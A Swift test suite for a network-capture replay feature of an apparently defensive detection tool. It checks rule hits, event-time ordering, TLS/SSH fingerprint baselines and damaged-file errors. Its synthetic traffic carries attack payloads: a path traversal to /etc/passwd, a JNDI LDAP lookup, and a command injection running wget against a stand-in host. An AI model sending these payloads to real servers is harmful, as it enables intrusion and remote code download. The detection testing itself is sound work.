// `panguard replay --pcap`: what the agent would have decided on captures, alone and among logs.
import Glibc
import Testing

@testable import PanguardTestKit

@Suite struct CaptureReplayTests {
  private static let rules = [Product.root + "/rules/network", Product.rules]
  private static var arguments: [String] { ["replay", "--quiet", "--format", "jsonl"] + rules.flatMap { ["--rules", $0] } }

  /// Three web attacks and a login in the clear, within a minute of 2026-01-05T10:00:00Z.
  private static var capture: [UInt8] {
    var capture = CaptureBuilder()
    for target in ["/../../../../etc/passwd", "/?x=${jndi:ldap://203.0.113.250/a}", "/x?c=;wget+http://203.0.113.251/m"] {
      capture.http(from: "203.0.113.9", to: "10.0.0.5", "GET", target, status: 404)
      capture.wait(seconds: 3)
    }
    capture.tcp(
      from: "10.0.0.5", to: "203.0.113.7", port: 21, "< 220 (vsFTPd 3.0.5)\r\n", "> USER bob\r\n", "< 331 Password?\r\n", "> PASS s3cret\r\n",
      "< 230 ok\r\n")
    return capture.pcap
  }
  @Test func aCaptureIsDecidedOn() throws {
    let d = TemporaryDirectory()
    d.append(Self.capture, to: "a.pcap")
    let result = panguard(Self.arguments + ["--pcap", d["a.pcap"], "--stats"])
    #expect(result.status == 0, "\(result.errors)")
    let decisions = try result.decisions
    let found = decisions.map(\.ruleID)
    for rule in ["ATR-2026-90821", "ATR-2026-90824", "ATR-2026-90823", "ATR-COR-2026-90080", "ATR-2026-90802"] {
      #expect(found.contains(rule), "\(rule): \(found)")
    }
    // Evidence names the file and the frame; the secret is nowhere.
    let first = try #require(decisions.first { $0.ruleID == "ATR-2026-90821" }?.evidence.first)
    #expect(first.source == d["a.pcap"] && first.offset == 4)
    #expect(!result.text.contains("s3cret"))
    #expect(result.errors.contains("frames") && result.errors.contains("frames/s"))
  }

  /// The same decisions whatever the time zone, and however the file is packed.
  @Test func theSameBytesEverywhere() {
    let d = TemporaryDirectory()
    d.append(Self.capture, to: "a.pcap")
    let replay = "$P " + Self.arguments.joined(separator: " ") + " --pcap a.pcap"
    let first = bash("cd $D && \(replay)", d)
    let again = bash("cd $D && mkdir p && gzip -c a.pcap > p/a.pcap && cd p && TZ=Asia/Kathmandu \(replay)", d)
    #expect(first.status == 0 && first.output == again.output && !first.output.isEmpty)
  }

  @Test func logsAndCapturesInEventTime() throws {
    let d = TemporaryDirectory()
    d.append(Self.capture, to: "a.pcap")
    d.write(
      "203.0.113.9 - - [05/Jan/2026:10:00:01 +0000] \"GET /../../../../etc/passwd HTTP/1.1\" 404 153 \"-\" \"curl/8.5.0\"\n", to: "access.log")
    let result = panguard(Self.arguments + [d["access.log"], "--pcap", d["a.pcap"]])
    let found = try result.decisions.map(\.ruleID)
    #expect(found.contains("ATR-2026-90201") && found.contains("ATR-2026-90821") && found.contains("ATR-COR-2026-90081"), "\(found)")
    // Frames of the first request, the log's line a second later, frames of the second one.
    let order = ["ATR-2026-90821", "ATR-2026-90201", "ATR-2026-90824"].compactMap { found.firstIndex(of: $0) }
    #expect(order.count == 3 && order == order.sorted(), "\(found)")
  }

  /// A baseline is learned from captures, and a client of TLS (JA4) or ssh (HASSH) that a machine never used is told by it, without one nothing.
  @Test func aNewClientIsToldByABaselineOfCaptures() throws {
    let d = TemporaryDirectory()
    var fortnight = CaptureBuilder()
    for _ in 0..<56 {
      fortnight.tls(from: "10.0.0.5", to: "203.0.113.7")
      fortnight.ssh(from: "10.0.0.6", to: "10.0.0.5")
      fortnight.wait(seconds: 6 * 3600)
    }
    d.append(fortnight.pcap, to: "fortnight.pcap")
    let learned = panguard(
      ["baseline", "learn", "--quiet", "-o", d["b"]] + Self.rules.flatMap { ["--rules", $0] } + ["--pcap", d["fortnight.pcap"]])
    #expect(learned.status == 0 && learned.text.contains("0 lines, ") && learned.text.contains("tls_client"), "\(learned)")
    var today = CaptureBuilder()
    today.wait(seconds: 15 * 86_400)
    today.tls(from: "10.0.0.5", to: "203.0.113.7")
    today.wait(seconds: 60)
    today.tls(from: "10.0.0.5", to: "203.0.113.7", hello: HelloBuilder(extensions: [0, 10, 11, 13, 16, 43, 51]))
    today.wait(seconds: 60)
    today.ssh(from: "10.0.0.6", to: "10.0.0.5", lists: SSHBuilder.lists.map { $0 + ",x" })
    d.append(today.pcap, to: "today.pcap")
    let knowing = try panguard(Self.arguments + ["--baseline", d["b"], "--pcap", d["today.pcap"]]).decisions
    for rule in ["ATR-2026-90920", "ATR-2026-90929"] { #expect(knowing.count { $0.ruleID == rule } == 1, "\(knowing.map(\.ruleID))") }
    #expect(try !panguard(Self.arguments + ["--pcap", d["today.pcap"]]).decisions.contains { $0.ruleID == "ATR-2026-90920" })
    #expect(panguard("baseline", "learn", "-o", d["c"]).status == 2)
  }

  @Test func whatIsDamagedIsSaid() {
    let d = TemporaryDirectory()
    d.append(Array(Self.capture.dropLast(7)), to: "cut.pcap")
    let cut = panguard(Self.arguments + ["--pcap", d["cut.pcap"], "--stats"])
    #expect(cut.status == 0 && cut.errors.contains("cut off"), "\(cut.errors)")
    d.write("not a capture\n", to: "text")
    let none = panguard(Self.arguments + ["--pcap", d["text"]])
    #expect(none.status == 3 && none.errors.contains("name logs before --pcap"), "\(none.errors)")
    let missing = panguard(Self.arguments + ["--pcap", d["missing"]])
    #expect(missing.status == 3 && missing.errors.contains("does not exist"))
  }
}
